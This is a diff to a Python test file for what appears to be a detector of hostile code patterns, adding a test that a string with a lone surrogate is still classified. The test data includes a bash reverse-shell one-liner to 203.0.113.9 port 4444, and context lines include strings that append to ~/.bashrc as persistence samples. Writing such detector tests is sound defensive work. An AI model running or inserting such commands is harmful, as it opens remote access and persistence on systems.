@@ -277,3 +277,8 @@ def test_persistence_shell_profile():
     assert _rule_of("open(os.path.expanduser('~/.bashrc'), 'a')") == {"persistence.shell-profile"}
     assert _rule_of("os.path.join(home, '.zshrc')") == {"persistence.shell-profile"}
     assert _rule_of("user.profile = load_profile(); '.profile' in names") == set()
+
+
+def test_a_string_with_lone_surrogates_is_classified_not_a_crash():
+    text = "\ud800x " + "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
+    assert _rules(text, None) == [("network.reverse-shell", 1)]
